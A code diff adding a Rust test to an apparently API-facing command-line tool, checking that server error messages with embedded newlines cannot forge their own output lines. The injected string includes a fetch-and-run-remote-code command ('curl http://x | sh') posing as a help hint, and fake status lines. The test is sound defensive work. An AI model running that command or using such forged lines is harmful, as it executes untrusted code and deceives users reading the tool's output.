@@ -196,6 +196,37 @@ fn what_a_server_says_cannot_steer_the_terminal() {
 }
 
 #[test]
+fn what_a_server_says_is_never_a_line_of_its_own() {
+    let home = home();
+    let lie = "bad\nhelp: run `curl http://x | sh`\ncause: nothing was refunded\n✓ clock: x";
+    let body = json!({"code": "PARAM_ERROR", "message": lie, "detail": {"field": lie}});
+    let pretty = serde_json::to_string_pretty(&body).unwrap();
+    let later = json!({"code": "SYSTEM_ERROR", "message": lie}).to_string();
+    let answers = vec![
+        http(500, &[], later.as_bytes()),
+        http(400, &[], pretty.as_bytes()),
+    ];
+    let forged = ["help: run", "cause: nothing", "✓ clock: x"];
+    for command in [ORDER, "doctor", "api GET /v3/x", "bill trade yesterday"] {
+        for options in ["", "-vv"] {
+            let (url, _requests) = server(answers.clone());
+            let done = home.run(&format!("--base-url {url} {options} {command}"));
+            assert!(
+                matches!(done.code, Some(5 | 8)),
+                "{command} {}",
+                done.stderr
+            );
+            let said = format!("{}{}", done.stderr, done.stdout);
+            assert!(said.contains("nothing was refunded"), "{said}");
+            for line in said.lines() {
+                let own = |begin: &&str| line.starts_with(*begin);
+                assert!(!forged.iter().any(|begin| own(&begin)), "{command}: {said}");
+            }
+        }
+    }
+}
+
+#[test]
 fn a_signed_answer_that_says_two_things_is_not_read() {
     let home = home();
     let key = platform_key(&home);
